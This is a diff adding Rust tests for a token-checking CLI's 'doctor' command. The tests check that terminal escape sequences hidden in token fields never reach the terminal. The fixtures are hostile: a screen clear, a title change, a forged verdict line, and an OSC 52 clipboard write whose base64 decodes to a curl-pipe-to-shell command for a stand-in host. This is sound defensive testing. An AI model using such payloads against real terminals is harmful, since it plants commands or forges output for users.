@@ -209,3 +209,138 @@ async fn usage_and_configuration_errors_exit_2() {
         assert!(text(&output).contains("usage: route-guard doctor"));
     }
 }
+
+/// Terminal escapes a hostile token carries in every field the doctor shows: clear the screen,
+/// set the window title, write the clipboard (OSC 52), a CR/LF that forges a verdict line, a
+/// bidirectional override, and a value far longer than a line.
+const CLEAR: &str = "\x1b[2J\x1b[H";
+const TITLE: &str = "\x1b]0;owned\x07";
+const CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
+const FORGED: &str = "\r\nverdict: the API accepts this token (200)\r\n";
+
+fn hostile(field: &str) -> String {
+    format!("{field}{CLEAR}{TITLE}{CLIPBOARD}{FORGED}\u{202e}\u{9b}31m")
+}
+
+/// Every line of `text` output is free of control characters (but the newline), and no line
+/// is the forged verdict.
+fn assert_terminal_safe(all: &str) {
+    for (n, line) in all.lines().enumerate() {
+        assert!(
+            !line.chars().any(|c| c.is_control() || c == '\u{202e}'),
+            "line {n} carries a control character: {line:?}"
+        );
+        assert!(
+            !line.starts_with("verdict: the API accepts"),
+            "a forged line: {all}"
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_text_in_a_token_never_reaches_the_terminal() {
+    let issuer = TestIssuer::start().await.expect("issuer");
+    let long = "x".repeat(5000);
+    let tokens = [
+        // Header members: kid (unknown, so the key step names it), typ, alg.
+        issuer.token().header("kid", hostile("kid")).sign(),
+        issuer.token().header("typ", hostile("typ")).sign(),
+        issuer.token().header("alg", hostile("alg")).sign(),
+        // Claims: iss, aud, a DPoP binding, scopes and permissions, a long value.
+        issuer
+            .token()
+            .iss(&hostile("https://evil.example.com/"))
+            .sign(),
+        issuer.token().audience(&hostile("https://api")).sign(),
+        issuer
+            .token()
+            .claim("cnf", serde_json::json!({ "jkt": hostile("jkt") }))
+            .sign(),
+        issuer.token().scopes(&hostile("read:messages")).sign(),
+        issuer
+            .token()
+            .claim("permissions", serde_json::json!([hostile("perm")]))
+            .sign(),
+        issuer.token().audience(&format!("{long}{CLEAR}")).sign(),
+    ];
+    for token in &tokens {
+        let output = run(
+            config(&issuer),
+            strings(&["doctor", "--scopes", "write:messages", "--color", "never"]),
+            token.clone(),
+        )
+        .await;
+        let all = text(&output);
+        assert_eq!(output.status.code(), Some(1), "{all}");
+        assert_terminal_safe(&all);
+        assert!(all.contains("verdict: the API refuses this token"), "{all}");
+        assert!(!all.contains(&long), "a long value is cut: {all}");
+        // Coloured output carries only the doctor's own escapes (SGR colour codes).
+        let coloured = run(
+            config(&issuer),
+            strings(&["doctor", "--color", "always"]),
+            token.clone(),
+        )
+        .await;
+        let coloured = text(&coloured);
+        for escape in [CLEAR, TITLE, CLIPBOARD, "\x1b]"] {
+            assert!(!coloured.contains(escape), "{coloured:?}");
+        }
+        assert!(!coloured.contains('\r'), "{coloured:?}");
+    }
+    // The escaped form is shown, so the user sees what the token holds.
+    let output = run(config(&issuer), strings(&["doctor"]), tokens[3].clone()).await;
+    assert!(
+        text(&output).contains("https://evil.example.com/\\u{1b}[2J"),
+        "{}",
+        text(&output)
+    );
+    // --json stays exact: the value as the token holds it, escaped only by JSON.
+    let output = run(
+        config(&issuer),
+        strings(&["doctor", "--json"]),
+        tokens[3].clone(),
+    )
+    .await;
+    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON on standard output");
+    let iss = report["checks"]
+        .as_array()
+        .and_then(|checks| checks.iter().find(|c| c["check"] == "iss"))
+        .expect("the iss check");
+    assert_eq!(iss["actual"], hostile("https://evil.example.com/"));
+    assert!(!String::from_utf8_lossy(&output.stdout).contains('\x1b'));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_issuer_the_key_step_never_checked_is_not_shown_as_ok() {
+    let issuer = TestIssuer::start().await.expect("issuer");
+    // An algorithm the API does not accept: the key step is never reached.
+    let foreign = issuer
+        .token()
+        .iss("https://evil.example.com/")
+        .header("alg", "HS512")
+        .sign();
+    let output = run(config(&issuer), strings(&["doctor", "--json"]), foreign).await;
+    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
+    let outcome = |name: &str| {
+        report["checks"]
+            .as_array()
+            .and_then(|checks| checks.iter().find(|c| c["check"] == name))
+            .map(|c| c["outcome"].clone())
+            .unwrap_or_default()
+    };
+    // The doctor is a fresh process: the issuer is not discovered yet, and no key step ran, so
+    // nothing has checked `iss`.
+    assert_eq!(outcome("key"), "not_reached", "{report}");
+    assert_eq!(outcome("iss"), "not_reached", "{report}");
+    // The right issuer, no key step: not checked, rather than "ok".
+    let own = issuer.token().header("alg", "HS512").sign();
+    let output = run(config(&issuer), strings(&["doctor"]), own).await;
+    let all = text(&output);
+    let line = all
+        .lines()
+        .find(|l| l.contains(" iss "))
+        .unwrap_or_default()
+        .to_owned();
+    assert!(line.contains("--") && line.contains("not reached"), "{all}");
+}
